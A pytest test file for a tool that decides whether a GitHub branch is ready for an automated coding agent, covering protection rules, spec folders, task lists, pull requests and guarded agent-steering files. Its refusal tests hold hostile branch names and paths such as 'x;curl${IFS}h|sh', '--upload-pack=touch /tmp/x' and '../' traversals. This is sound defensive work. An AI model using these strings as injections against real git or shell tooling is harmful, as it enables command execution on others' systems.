"""When a branch is ready to be built, and which branch names are allowed."""

from __future__ import annotations

import asyncio
import copy
import re
import subprocess
from collections.abc import Callable
from typing import TYPE_CHECKING, Any, cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kiro_worker.config.model import Configuration
from kiro_worker.errors import WorkItemInvalid
from kiro_worker.github.answers.repository import RepositoryState
from kiro_worker.github.branch_names import branch_problem
from kiro_worker.github.guarded_files import is_guarded
from kiro_worker.github.readiness import problems, validate_branch, validate_item
from kiro_worker.github.repository_file import repository_settings
from kiro_worker.github.spec_folders import Spec
from kiro_worker.models import Work, WorkItem
from kiro_worker.records.runs import RunRecord
from kiro_worker.spec import named_spec_folder
from tests.support.fake_github import Board, FakeGitHub, default_branch, ready_repository, spec_file, spec_roots
from tests.support.fake_github import configuration as fake_configuration

if TYPE_CHECKING:
    from kiro_worker.github.client import GitHubSession

LINK = {"name": "link", "mode": 0o120000, "type": "blob"}
MODULE = {"name": "module", "mode": 0o160000, "type": "commit"}
FILE = {"name": "README.md", "mode": 0o100644, "type": "blob"}
NAMED = ("cart", "gifts", "old")
CONFIGURATION = Configuration.model_validate(
    {"organization": "acme", "repository": "shop", "projectNumber": 1, "targetStatusColumn": "For Implementation"}
)
BRANCH = "feature/discounts"


READY = ready_repository(BRANCH)


SPEC_FILES = {key: READY[key] for key in ("specFolder", "tasks")}
OWN = ".kiro/specs/feature-discounts"


def reasons(branch: str = BRANCH, configuration: Configuration = CONFIGURATION, **changes: Any) -> list[str]:
    return problems_of(copy.deepcopy(READY) | changes, branch, configuration)


def problems_of(
    answer: dict[str, Any],
    branch: str = BRANCH,
    configuration: Configuration = CONFIGURATION,
    read_run: Callable[[], RunRecord | None] = lambda: None,
) -> list[str]:
    found = RepositoryState.parse(answer)
    spec = Spec(f".kiro/specs/{branch.replace('/', '-')}", found.spec_files or (), found.tasks)
    return list(problems(found, spec, configuration, branch, read_run))


def validated(github: FakeGitHub, spec: str = "", branch: str = BRANCH, **changes: Any) -> Work:
    async def act() -> Work:
        async with github.open_session() as session:
            return await validate_branch(session, fake_configuration(**changes), "acme/shop", branch, named_spec=spec)

    return asyncio.run(act())


def refusal(github: FakeGitHub, spec: str = "", **changes: Any) -> list[str]:
    with pytest.raises(WorkItemInvalid) as refused:
        validated(github, spec, **changes)
    return refused.value.reason.splitlines()


def without_own_spec(*on_branch: str | dict[str, Any], on_base: list[str] | None = None, **changes: Any) -> FakeGitHub:
    """A branch whose spec is not in the folder that is named after it."""
    github = FakeGitHub(Board(repository=copy.deepcopy(READY) | {"specFolder": None, "tasks": None} | changes))
    github.board.spec_roots = spec_roots(on_branch, on_base or [])
    github.board.specs = {f".kiro/specs/{name}": copy.deepcopy(SPEC_FILES) for name in on_branch if name in NAMED}
    return github


def ref(**changes: Any) -> dict[str, Any]:
    return {**READY["ref"], **changes}


def protection(**changes: Any) -> dict[str, Any]:
    return ref(refUpdateRule={"pattern": "feature/*", "viewerCanPush": True, "requiresSignatures": False} | changes)


def ruleset(kind: str, bypass_actors: int | None = None) -> dict[str, Any]:
    actors = None if bypass_actors is None else {"totalCount": bypass_actors}
    node = {"type": kind, "repositoryRuleset": {"name": "Features", "bypassActors": actors}}
    return ref(rules={"nodes": [node]})


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"isLocked": True, "lockReason": "MIGRATING"}, "acme/shop is locked (MIGRATING): wait until GitHub unlocks"),
        ({"isLocked": True, "lockReason": None}, "acme/shop is locked (no reason given)"),
        ({"isDisabled": True}, "acme/shop is disabled: ask its owner"),
        (
            {"ref": protection(viewerCanPush=False), "viewerPermission": "WRITE"},
            "does not let the account of the GitHub",
        ),
        ({"ref": protection(viewerCanPush=False), "viewerPermission": None}, "does not let the account of the GitHub"),
        ({"ref": protection(requiresSignatures=True)}, "'feature/*' of acme/shop requires signed commits"),
        ({"ref": ruleset("REQUIRED_SIGNATURES")}, "the ruleset 'Features' requires signed commits"),
        ({"ref": ruleset("REQUIRED_SIGNATURES", 0)}, "the ruleset 'Features' requires signed commits"),
        ({"ref": ruleset("LOCK_BRANCH")}, "makes the branch read-only"),
        ({"ref": ruleset("PULL_REQUEST", 0)}, "allows changes through a pull request only"),
        ({"ref": ruleset("MERGE_QUEUE", 0)}, "allows changes through a merge queue only"),
    ],
)
def test_branch_that_cannot_be_pushed_is_refused(changes: dict[str, Any], reason: str) -> None:
    [found] = reasons(**changes)
    assert reason in found


@pytest.mark.parametrize(
    "changes",
    [
        {"ref": protection()},
        {"ref": protection(viewerCanPush=False), "viewerPermission": "READ"},
        {"ref": ref(refUpdateRule=None, rules=None)},
        {"ref": ref(rules={"nodes": None})},
        {"ref": ref(rules={"nodes": [None, {"type": "NON_FAST_FORWARD", "repositoryRuleset": None}]})},
        {"ref": ruleset("REQUIRED_SIGNATURES", 1)},
        {"ref": ruleset("PULL_REQUEST")},
        {"ref": ruleset("PULL_REQUEST", 2)},
        {"ref": ruleset("DELETION", 0)},
        {"viewerPermission": "READ"},
        {"isLocked": False, "isDisabled": False, "lockReason": None},
    ],
)
def test_what_is_unknown_is_not_refused(changes: dict[str, Any]) -> None:
    assert reasons(**changes) == []


def test_pushed_work_is_reported_although_branch_is_locked_now() -> None:
    archived = READY | {"isArchived": True}
    pushed = RunRecord("arn:one", "acme/shop", BRANCH, "PVTI_1", frozenset({"a" * 40}))
    assert problems_of(archived, read_run=lambda: pushed) == []
    assert len(problems_of(archived)) == 1


def with_file(name: str, **changes: Any) -> dict[str, Any]:
    entries = [
        spec_file(entry, **(changes if entry == name else {})) for entry in ("requirements.md", "design.md", "tasks.md")
    ]
    return {"__typename": "Tree", "entries": entries}


def blob(**changes: Any) -> dict[str, Any]:
    return {"__typename": "Blob", "byteSize": 10, "isBinary": False} | changes


def pull_request(**changes: Any) -> dict[str, Any]:
    return {"nodes": [READY["pullRequests"]["nodes"][0] | changes]}


def test_ready_branch_has_no_problem() -> None:
    assert reasons() == []


def test_bugfix_spec_needs_no_requirements() -> None:
    entries = [spec_file("bugfix.md"), spec_file("design.md"), spec_file("tasks.md")]
    assert reasons(specFolder={"__typename": "Tree", "entries": entries}) == []


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"isArchived": True}, "is archived"),
        ({"ref": None}, "does not exist: git checkout -b feature/discounts"),
        ({"ref": {"name": BRANCH, "target": {"__typename": "Blob", "oid": "a"}}}, "does not point to a commit"),
        ({"defaultBranchRef": default_branch() | {"name": BRANCH}}, "is the default branch"),
        (
            {"specFolder": {"__typename": "Tree", "entries": [spec_file("design.md"), spec_file("tasks.md")]}},
            "requirements.md (or",
        ),
        (
            {"specFolder": {"__typename": "Tree", "entries": [spec_file("requirements.md"), spec_file("tasks.md")]}},
            "design.md is m",
        ),
        ({"specFolder": with_file("tasks.md", mode=0o120000)}, "tasks.md is a symbolic link"),
        ({"specFolder": with_file("design.md", mode=0o160000, type="commit", object=None)}, "design.md is not a file"),
        ({"specFolder": with_file("design.md", object=blob(byteSize=0))}, "design.md is empty"),
        ({"specFolder": with_file("tasks.md", object=blob(byteSize=10**7))}, "10.0 MB, but the limit is 512 KB"),
        ({"specFolder": with_file("design.md", object=blob(isBinary=True))}, "is not a text file"),
        ({"tasks": blob(isTruncated=False, text="- [x] 1. Done")}, "has no open task"),
        ({"tasks": blob(isTruncated=False, text="- [ ]* 1. Optional")}, "has no open task"),
        ({"tasks": blob(isTruncated=False, text="\n ")}, "tasks.md is empty"),
        (
            {"tasks": blob(isTruncated=False, text="- [ ] 1. One\n- [?] 2. Two")},
            ".kiro/specs/feature-discounts/tasks.md, line 2 has the unknown mark [?]: use",
        ),
        ({"tasks": blob(isTruncated=False, text="<<<<<<< HEAD\n- [ ] 1. One")}, "line 1 is a conflict marker"),
        ({"tasks": blob(isTruncated=False, text="- [ ] 1. One\u200b")}, "line 1 contains an invisible character"),
        ({"tasks": blob(isTruncated=False, text="- [ ] 1. One <!-- b -->")}, "line 1 begins an HTML comment"),
        ({"tasks": blob(isTruncated=False, text=f"- [ ] {'a' * 2000}")}, "has 2006 characters, but the limit is 2000"),
        ({"tasks": blob(isTruncated=False, text="- [ ] A\n" * 1001)}, "has 1001 tasks, but the limit is 1000"),
        ({"pullRequests": {"nodes": []}}, "no open pull request from feature/discounts: gh pr create"),
        ({"pullRequests": pull_request(isCrossRepository=True)}, "#7 from feature/discounts comes from a fork"),
        ({"pullRequests": pull_request(authorAssociation="CONTRIBUTOR")}, "is CONTRIBUTOR, but only OWNER"),
    ],
)
def test_problem_is_named_with_its_fix(changes: dict[str, Any], reason: str) -> None:
    found = reasons(**changes)
    assert len(found) == 1
    assert reason in found[0]


def test_all_problems_of_task_list_are_reasons() -> None:
    found = reasons(tasks=blob(isTruncated=False, text="- [?] 1. One\n- [!] 2. Two"), isArchived=True)
    assert len(found) == 3


@pytest.mark.parametrize("title", ["Pay\u200b later", "Pay \u202elater", "Pay\U000e0041"])
def test_hidden_text_in_title_is_refused(title: str) -> None:
    item = WorkItem("PVTI_1", title, "Issue", "I_1", "", "acme/shop", 1, "For Implementation", BRANCH)
    session = cast("GitHubSession", None)
    with pytest.raises(WorkItemInvalid, match="the card's title contains an invisible character"):
        asyncio.run(validate_item(session, CONFIGURATION, item))


def test_queued_tasks_are_open() -> None:
    assert reasons(tasks=blob(isTruncated=False, text="- [x] 1. One\n- [~] 2. Two")) == []


def closed(state: str, **changes: Any) -> dict[str, Any]:
    return {"nodes": [{"number": 7, "state": state, "isCrossRepository": False} | changes]}


@pytest.mark.parametrize("missing", [{"ref": None}, {"pullRequests": {"nodes": []}}], ids=["branch", "pull request"])
@pytest.mark.parametrize(
    ("state", "reason"), [("MERGED", "#7, is merged: there is nothing"), ("CLOSED", "#7, is closed: gh pr reopen 7")]
)
def test_closed_pull_request_is_explained(missing: dict[str, Any], state: str, reason: str) -> None:
    found = reasons(closedPullRequests=closed(state), **missing)
    assert len(found) == 2
    assert reason in found[1]
    assert len(reasons(closedPullRequests=closed(state, isCrossRepository=True), **missing)) == 1


def test_open_pull_request_hides_closed_one() -> None:
    assert reasons(closedPullRequests=closed("MERGED")) == []


def test_fork_beside_own_branch_is_ignored() -> None:
    own, fork = pull_request()["nodes"][0], pull_request(isCrossRepository=True, number=8)["nodes"][0]
    assert reasons(pullRequests={"nodes": [fork, own]}) == []


def run_record(repository: str = "acme/shop", branch: str = BRANCH, commits: str = "a") -> RunRecord:
    return RunRecord("arn:one", repository, branch, "PVTI_1", frozenset(commit * 40 for commit in commits))


@pytest.mark.parametrize(
    ("record", "refused"),
    [
        (run_record(), False),
        (run_record(repository="Acme/Shop"), False),
        # Somebody may have pushed on top of it: the build finds out.
        (run_record(commits="bc"), False),
        (run_record(commits=""), True),
        (run_record(branch="feature/other"), True),
        (run_record(repository="acme/other"), True),
        (None, True),
    ],
)
def test_only_recorded_push_excuses_open_tasks(record: RunRecord | None, refused: bool) -> None:
    message = "Implement 2\n\nKiro-Worker-Execution: arn:one\n"
    ref = {"name": BRANCH, "target": {"__typename": "Commit", "oid": "a" * 40, "message": message}}
    done = {**READY, "ref": ref, "tasks": blob(isTruncated=False, text="- [x] 1. Done")}
    found = problems_of(done, read_run=lambda: record)
    assert [reason.partition(" has no open task")[1] for reason in found] == ([" has no open task"] if refused else [])


def test_record_is_read_only_without_open_task() -> None:
    def read_run() -> RunRecord:
        raise AssertionError("a card with an open task needs no record")

    assert problems_of(copy.deepcopy(READY), read_run=read_run) == []


def test_all_reasons_are_listed_together() -> None:
    github = without_own_spec("old", on_base=["old"], isArchived=True, pullRequests={"nodes": []})
    assert len(refusal(github)) == 3


def test_folder_named_after_branch_costs_one_request() -> None:
    github = FakeGitHub(Board(repository=copy.deepcopy(READY)))
    assert validated(github, "other").spec_path == OWN
    assert github.sent() == ["ValidateWorkItem"]


@pytest.mark.parametrize("text", ["cart", "cart/", ".kiro/specs/cart", ".kiro/specs/cart/"])
def test_field_names_spec_folder(text: str) -> None:
    github = without_own_spec("cart", "old", on_base=["cart", "old"])
    work = validated(github, text)
    assert (work.spec_path, work.open_tasks) == (".kiro/specs/cart", 1)
    assert github.sent() == ["ValidateWorkItem", "ReadSpec"]
    assert github.requests[1].variables["specFolder"] == f"{'a' * 40}:.kiro/specs/cart"


def test_field_can_name_nested_folder() -> None:
    github = without_own_spec("team")
    github.board.specs[".kiro/specs/team/cart"] = copy.deepcopy(SPEC_FILES)
    assert validated(github, ".kiro/specs/team/cart").spec_path == ".kiro/specs/team/cart"


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("..", "a folder's name must have only letters"),
        ("../cart", "a path that does not begin with .kiro/specs/"),
        (".kiro/specs/../secrets", "a folder's name must have only letters"),
        (".kiro/specs/", "a folder's name must have only letters"),
        (".kiro/specs", "a path that does not begin with"),
        ("/etc", "a path that does not begin with"),
        (".kiro/specs//cart", "a folder's name must have only letters"),
        ("cart\nx", "a folder's name must have only letters"),
        ("-rf", "a folder's name must have only letters"),
        ("c\u0430rt", "a folder's name must have only letters"),
        ("ca\u200brt", "an invisible character (U+200B ZERO WIDTH SPACE)"),
        ("a" * 301, "longer than 300 characters"),
        ("gone", ".kiro/specs/gone does not exist on the branch"),
        ("link", ".kiro/specs/link is a symbolic link"),
        ("module", ".kiro/specs/module is a submodule"),
        ("README.md", ".kiro/specs/README.md is a file"),
    ],
)
def test_wrong_field_is_named(text: str, problem: str) -> None:
    github = without_own_spec("cart", LINK, MODULE, FILE)
    [reason] = refusal(github, text)
    assert 'the card\'s field "Spec" contains ' in reason
    assert problem in reason
    assert ".kiro/specs contains cart: enter the name of a folder below .kiro/specs" in reason
    assert reason.isprintable()


def test_field_has_the_configured_name() -> None:
    [reason] = refusal(without_own_spec("cart"), "gone", specField="Spec folder")
    assert 'field "Spec folder"' in reason


def test_only_added_folder_is_the_spec() -> None:
    github = without_own_spec("cart", "old", FILE, on_base=["old"])
    assert validated(github).spec_path == ".kiro/specs/cart"
    assert github.sent() == ["ValidateWorkItem", "FindSpec", "ReadSpec"]
    assert github.requests[1].variables["onBranch"] == f"{'a' * 40}:.kiro/specs"


def test_added_folder_is_compared_with_base_of_pull_request() -> None:
    github = without_own_spec("cart", pullRequests=pull_request(baseRefName="release/2"))
    validated(github)
    variables = github.requests[1].variables
    assert (variables["baseRef"], variables["onBase"]) == ("refs/heads/release/2", "refs/heads/release/2:.kiro/specs")


def test_base_without_pull_request_is_the_default_branch() -> None:
    github = without_own_spec("cart", pullRequests={"nodes": []})
    [reason] = refusal(github)
    assert "no open pull request" in reason
    assert github.requests[1].variables["baseRef"] == "refs/heads/main"


def test_rejection_lists_folders_if_none_is_new() -> None:
    [reason] = refusal(without_own_spec("cart", "old", on_base=["cart", "old"]))
    assert reason == (
        f"the spec folder {OWN} does not exist on {BRANCH}, and the branch adds no folder below .kiro/specs;"
        f" .kiro/specs contains cart, old: commit and push the spec as {OWN}, or enter the name of its folder in the"
        ' card\'s field "Spec"'
    )


def test_rejection_lists_several_new_folders() -> None:
    [reason] = refusal(without_own_spec("cart", "gifts", "old", on_base=["old"]))
    assert "adds 2 folders below .kiro/specs (cart, gifts); .kiro/specs contains cart, gifts, old: commit" in reason


def test_list_of_folders_is_bounded() -> None:
    folders = [f"spec-{number:03}" for number in range(30)]
    [reason] = refusal(without_own_spec(*folders, on_base=folders))
    assert "spec-019 and 10 more" in reason
    assert "spec-020" not in reason


def test_folders_are_not_new_if_base_is_gone() -> None:
    github = without_own_spec("cart")
    github.board.spec_roots = spec_roots(["cart"], None)
    [reason] = refusal(github)
    assert "adds no folder" in reason


@pytest.mark.parametrize("root", [None, {"onBranch": None, "base": {"name": "main"}, "onBase": None}])
def test_branch_without_any_spec_is_refused(root: dict[str, Any] | None) -> None:
    github = without_own_spec()
    github.board.spec_roots = root
    [reason] = refusal(github)
    assert ".kiro/specs contains no folder" in reason


@pytest.mark.parametrize(
    ("entry", "problem"),
    [
        ({"name": "link", "mode": 0o120000, "type": "blob"}, "it is a symbolic link: commit the folder itself"),
        ({"name": "module", "mode": 0o160000, "type": "commit"}, "it is a submodule: commit the folder itself"),
        ("my spec", "a folder's name must have only letters"),
        ("a\u202eb", "a folder's name must have only letters"),
    ],
)
def test_odd_new_folder_is_refused(entry: Any, problem: str) -> None:
    [reason] = refusal(without_own_spec("old", entry, on_base=["old"]))
    assert problem in reason
    assert reason.isprintable()


def test_link_named_after_branch_is_refused() -> None:
    link = {"name": "feature-discounts", "mode": 0o120000, "type": "blob"}
    [reason] = refusal(without_own_spec(link, specFolder={"__typename": "Blob"}))
    assert "'feature-discounts' cannot be the spec: it is a symbolic link" in reason


def test_missing_branch_costs_one_request() -> None:
    github = without_own_spec("cart", ref=None)
    [reason] = refusal(github, "cart")
    assert "the branch feature/discounts does not exist" in reason
    assert github.sent() == ["ValidateWorkItem"]


def test_file_of_chosen_folder_is_named() -> None:
    github = without_own_spec("cart")
    github.board.specs[".kiro/specs/cart"]["tasks"]["text"] = "- [?] 1. One"
    [reason] = refusal(github)
    assert reason.startswith(".kiro/specs/cart/tasks.md, line 1")


@given(st.text())
def test_field_never_leads_out_of_the_root(text: str) -> None:
    try:
        folder = named_spec_folder(".kiro/specs", text)
    except ValueError:
        return
    assert re.fullmatch(r"\.kiro/specs(/[A-Za-z0-9_][A-Za-z0-9._+#-]*)+", folder)


def with_mergeable(mergeable: str, *later: str) -> FakeGitHub:
    answer = copy.deepcopy(READY) | {"pullRequests": pull_request(mergeable=mergeable, baseRefName="release")}
    return FakeGitHub(Board(repository=answer, mergeable=list(later)))


@pytest.mark.parametrize("later", [["CONFLICTING"], ["UNKNOWN", "CONFLICTING"]], ids=["first", "second"])
@pytest.mark.parametrize("mergeable", ["UNKNOWN", "CONFLICTING"])
def test_conflict_is_refused_if_required(mergeable: str, later: list[str]) -> None:
    [reason] = refusal(with_mergeable(mergeable, *later), requireMergeable=True)
    assert reason == (
        f"pull request #7 conflicts with its base release: merge release into {BRANCH}, or rebase {BRANCH} onto it,"
        " resolve the conflicts and push the branch"
    )


@pytest.mark.parametrize("later", [["MERGEABLE"], ["UNKNOWN", "UNKNOWN", "CONFLICTING"], ["UNKNOWN", "MERGEABLE"]])
def test_what_stays_unknown_passes(later: list[str]) -> None:
    github = with_mergeable("UNKNOWN", *later)
    assert validated(github, requireMergeable=True).pull_request == 7
    assert github.sent("ReadMergeable") == ["ReadMergeable"] * min(len(later), 2)


def test_conflict_is_refused_by_default() -> None:
    [reason] = refusal(with_mergeable("CONFLICTING"))
    assert reason.startswith("pull request #7 conflicts with its base release")


def test_conflict_passes_if_allowed() -> None:
    github = with_mergeable("CONFLICTING")
    assert validated(github, requireMergeable=False).pull_request == 7
    assert (github.requests[0].variables["withMergeable"], github.sent("ReadMergeable")) == (False, [])


def test_branch_of_fork_is_not_asked_for() -> None:
    fork: dict[str, Any] = {
        "pullRequests": pull_request(isCrossRepository=True, number=8),
        "ref": None,
        "specFolder": None,
    }
    [reason] = reasons(**fork)
    assert reason == (
        f"pull request #8 from {BRANCH} comes from a fork, and forks are never built: push its branch to acme/shop"
        f" itself (gh pr checkout 8 && git push origin HEAD:{BRANCH}), and open a pull request from there"
        f" (gh pr create --head {BRANCH})"
    )


def test_default_branch_of_fork_needs_another_name() -> None:
    fork: dict[str, Any] = {"pullRequests": pull_request(isCrossRepository=True, number=8), "specFolder": None}
    [reason] = reasons("main", **fork)
    assert "#8 from main comes from a fork" in reason
    assert "git push origin HEAD:NEW-BRANCH" in reason


def test_private_member_is_explained() -> None:
    [reason] = reasons(pullRequests=pull_request(authorAssociation="NONE"))
    assert "GitHub shows members whose membership is private as CONTRIBUTOR or NONE" in reason


@pytest.mark.parametrize("branch", ["feature/x", "fix-1", "release/1.2.x", "user/me+you_2", "feature/#12-x", "a"])
def test_usual_branch_name_is_allowed(branch: str) -> None:
    assert branch_problem(branch) is None


@pytest.mark.parametrize(
    "branch",
    [
        "x;curl${IFS}h|sh",
        "--upload-pack=touch /tmp/x",
        "-f",
        "../../x",
        "a/../b",
        "feature/-f",
        "feature/@",
        "a@{1}",
        "a b",
        "a\nb",
        "a//b",
        "/a",
        "a/",
        ".a",
        "a/.b",
        "a.",
        "a.lock",
        "a.lock/b",
        "a:b",
        "a~1",
        "a^",
        "a?",
        "a*",
        "a[",
        "a\\b",
        "a\x00",
        "x" * 201,
        "fe\u0430ture",
        "feature\u2215x",
        "\uff46eature",
        "a\u202eb",
        "HEAD",
    ],
)
def test_hostile_branch_name_is_refused(branch: str) -> None:
    assert branch_problem(branch) is not None


@given(st.text())
def test_allowed_name_is_harmless(branch: str) -> None:
    if branch and branch_problem(branch) is None:
        assert branch.isascii()
        assert not set(branch) & set(" \t\n\r;&|<>$`\"'\\(){}[]*?~^:@!=%,")
        assert not branch.startswith(("-", ".", "/"))
        assert ".." not in branch


NAMES = st.one_of(
    st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._/+#-]{0,40}", fullmatch=True),
    st.text(st.sampled_from("aZ0._/+#-@{}~^:?*[\\ $;&|<>'\"`\n\t"), min_size=1, max_size=12),
    st.lists(st.sampled_from(["HEAD", "refs", "heads", "a", ".lock", "..", ".", "-", "@", "#", "a.lock", "0" * 40]))
    .map("/".join)
    .filter(bool),
)


@settings(max_examples=60)
@given(st.lists(NAMES, min_size=1, max_size=10))
def test_git_and_shell_accept_allowed_names(names: list[str]) -> None:
    branches = [name for name in names if branch_problem(name) is None]
    for branch in branches:
        checked = subprocess.run(["git", "check-ref-format", "--branch", branch], capture_output=True, text=True)
        assert (checked.returncode, checked.stdout) == (0, f"{branch}\n"), branch
    printed = subprocess.run(
        ["sh", "-c", f"printf '%s\\n' all {' '.join(branches)}"], capture_output=True, text=True, check=True
    )
    assert printed.stdout.splitlines() == ["all", *branches]


def drafted() -> FakeGitHub:
    return FakeGitHub(Board(repository=copy.deepcopy(READY) | {"pullRequests": pull_request(isDraft=True)}))


def test_draft_is_refused() -> None:
    assert refusal(drafted()) == ["pull request #7 is a draft: mark it as ready for review (gh pr ready 7)"]


def test_draft_passes_if_allowed() -> None:
    assert validated(drafted(), allowDraft=True).pull_request == 7


@pytest.mark.parametrize("changes", [{"isDraft": True}, {"mergeable": "CONFLICTING"}])
def test_draft_and_conflict_do_not_stop_the_report_of_pushed_work(changes: dict[str, Any]) -> None:
    answer = copy.deepcopy(READY) | {"pullRequests": pull_request(**changes)}
    run = RunRecord("arn", "acme/shop", BRANCH, "CARD", frozenset({"a" * 40}))
    assert problems_of(answer, configuration=CONFIGURATION)
    assert problems_of(answer, configuration=CONFIGURATION, read_run=lambda: run) == []


def test_default_branchs_commit_is_recorded() -> None:
    assert validated(FakeGitHub(Board(repository=copy.deepcopy(READY)))).default_commit == "d" * 40


@pytest.mark.parametrize(
    "changes",
    [
        {"defaultBranchRef": None},
        {"defaultBranchRef": {"name": "main", "target": None}},
        {"defaultBranchRef": {"name": "main", "target": {"__typename": "Tag", "oid": "d" * 40}}},
    ],
)
def test_missing_default_branch_is_refused(changes: dict[str, Any]) -> None:
    [reason] = reasons(**changes)
    assert reason.startswith("acme/shop has no default branch with a commit")


def entry(**changes: Any) -> dict[str, Any]:
    blob = {"__typename": "Blob", "byteSize": 5, "isBinary": False, "isTruncated": False, "text": "a: 1\n"} | changes
    return {"mode": 0o100644, "type": "blob", "object": blob}


@pytest.mark.parametrize(
    ("file", "problem"),
    [
        (entry() | {"mode": 0o120000}, "is a symbolic link: commit the file itself"),
        ({"mode": 0o160000, "type": "commit", "object": None}, "is not a file"),
        ({"mode": 0o40000, "type": "tree", "object": {"__typename": "Tree"}}, "is not a file"),
        (entry(isBinary=True, text=None), "is not a text file"),
        (entry(isTruncated=True, byteSize=600_000), "is 600000 bytes, but the limit is 64000: shorten it"),
        (entry(byteSize=64_001), "is 64001 bytes"),
    ],
)
def test_own_file_that_cannot_be_read_is_refused(file: dict[str, Any], problem: str) -> None:
    [reason] = reasons(defaultBranchRef=default_branch(file))
    assert reason.startswith(f".kiro-worker.yml on main {problem}")


def test_own_file_of_wrong_name_is_named() -> None:
    wrong = {"mode": 0o100644, "type": "blob"}
    [reason] = reasons(defaultBranchRef=default_branch(misnamed=wrong))
    assert reason.startswith(".kiro-worker.yaml on main has the wrong name: git mv .kiro-worker.yaml .kiro-worker.yml")
    assert reasons(defaultBranchRef=default_branch("directory: a\n", wrong)) == []


def test_problems_of_own_file_are_named_by_line() -> None:
    found = reasons(defaultBranchRef=default_branch("directory: a\ntests: make\nbaseline: red\n"))
    assert sorted(reason.partition(": ")[0] for reason in found) == [
        ".kiro-worker.yml on main, line 2",
        ".kiro-worker.yml on main, line 3",
    ]


def test_own_file_may_not_exceed_limits() -> None:
    limited = CONFIGURATION.model_validate(CONFIGURATION.model_dump(by_alias=True) | {"limits": {"minutes": 60}})
    [reason] = reasons(configuration=limited, defaultBranchRef=default_branch("build: {timeoutMinutes: 200}"))
    assert "timeoutMinutes" in reason


@pytest.mark.parametrize(("file", "words"), [("directory: a\n", "a"), ("", ""), (None, "")])
def test_own_file_is_read(file: str | None, words: str) -> None:
    found = RepositoryState.parse(copy.deepcopy(READY) | {"defaultBranchRef": default_branch(file)})
    assert repository_settings(found, CONFIGURATION).checks[0].directory == words


CHANGED = [
    {"filename": ".kiro/steering/a.md", "status": "modified", "sha": "1"},
    {"filename": "docs/new.md", "previous_filename": "deep/AGENTS.md", "status": "renamed", "sha": "2"},
    {"filename": "same/AGENTS.md", "status": "unchanged", "sha": "3"},
    {"filename": "agents.md", "status": "added", "sha": "4"},
]


def guarded(files: list[dict[str, Any]], **same: bool) -> FakeGitHub:
    """A branch that changes ``files``. Those named in ``same`` are as on the default branch."""
    github = FakeGitHub(Board(repository=copy.deepcopy(READY), comparison={"files": files}))
    base = {f"file{number}": None for number in range(20)}
    head = {key: None if same.get(key) else {"mode": 0o100644, "oid": key} for key in base}
    github.board.versions = {"default": {"__typename": "Commit"} | base, "commit": {"__typename": "Commit"} | head}
    return github


def test_changed_guarded_files_are_refused() -> None:
    github = guarded(CHANGED)
    [reason] = refusal(github)
    assert reason == (
        f"{BRANCH} changes files that steer an agent or run commands (.kiro/steering/a.md, deep/AGENTS.md): undo these"
        f' changes on {BRANCH}, or review them and configure a "guardLabel", which allows the change once it is on the'
        " pull request"
    )
    assert github.rest == [
        f"https://github.invalid/repos/acme/shop/compare/{'d' * 40}...{'a' * 40}?per_page=1",
    ]
    assert github.requests[1].variables["path1"] == "deep/AGENTS.md"


def test_wrong_file_does_not_stop_the_report_of_pushed_work() -> None:
    run = RunRecord("arn", "acme/shop", BRANCH, "CARD", frozenset({"a" * 40}))
    wrong = copy.deepcopy(READY) | {"defaultBranchRef": default_branch("tests: x\n")}

    async def act(read_run: Callable[[], RunRecord | None]) -> Work:
        async with FakeGitHub(Board(repository=copy.deepcopy(wrong))).open_session() as session:
            return await validate_branch(session, fake_configuration(), "acme/shop", BRANCH, read_run)

    assert asyncio.run(act(lambda: run)).commit == "a" * 40
    with pytest.raises(WorkItemInvalid, match='unknown key "tests"'):
        asyncio.run(act(lambda: None))


def test_guard_does_not_stop_the_report_of_pushed_work() -> None:
    run = RunRecord("arn", "acme/shop", BRANCH, "CARD", frozenset({"a" * 40}))

    async def act() -> Work:
        async with guarded(CHANGED).open_session() as session:
            return await validate_branch(session, fake_configuration(), "acme/shop", BRANCH, lambda: run)

    assert asyncio.run(act()).commit == "a" * 40


def test_files_as_on_the_default_branch_pass() -> None:
    [reason] = refusal(guarded(CHANGED, file0=True))
    assert "(deep/AGENTS.md)" in reason
    assert validated(guarded(CHANGED, file0=True, file1=True)).pull_request == 7


@pytest.mark.parametrize(("agent", "is_refused"), [("gemini", True), ("claude", False)])
def test_files_of_the_configured_agent_are_guarded(agent: str, is_refused: bool) -> None:
    github = guarded([{"filename": ".env", "status": "added"}])
    if is_refused:
        assert ".env" in refusal(github, repositoryDefaults={"agent": agent})[0]
    else:
        assert validated(github, repositoryDefaults={"agent": agent}).pull_request == 7


@pytest.mark.parametrize("changes", [{"guardedPaths": []}, {"guardedPaths": ["docs/other"]}])
def test_guarded_paths_are_the_configured_ones(changes: dict[str, Any]) -> None:
    assert validated(guarded(CHANGED), **changes).pull_request == 7


@pytest.mark.parametrize("answer", [None, {}, {"files": None}, {"files": [{"filename": 1}]}, [], {"files": []}])
def test_unusable_comparison_leaves_the_decision_to_the_build(answer: Any) -> None:
    github = guarded(CHANGED)
    github.board.comparison = answer
    assert validated(github).pull_request == 7


@pytest.mark.parametrize("versions", [None, {"default": None, "commit": None}, {"default": {}, "commit": {}}])
def test_unusable_versions_leave_the_decision_to_the_build(versions: Any) -> None:
    github = guarded(CHANGED)
    github.board.versions = versions
    assert validated(github).pull_request == 7


def test_name_of_guarded_file_stays_on_its_line() -> None:
    [reason] = refusal(guarded([{"filename": ".kiro/hooks/a\nHow to fix: \u202e.md", "status": "added"}]))
    assert "(.kiro/hooks/a\\nHow to fix: \\u202e.md)" in reason


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("AGENTS.md", True),
        ("a/b/AGENTS.md", True),
        ("AGENTS.md/x", True),
        ("agents.md", False),
        ("xAGENTS.md", False),
        (".kiro/steering", True),
        (".kiro/steering/deep/x.md", True),
        (".kiro/steering2", False),
        ("x/.kiro/steering/y", False),
        (".gitmodules", True),
        ("x/.gitmodules", False),
    ],
)
def test_guarded_paths_are_folders_or_names(path: str, expected: bool) -> None:
    assert is_guarded(path, ("AGENTS.md", ".kiro/steering", "./.gitmodules")) is expected
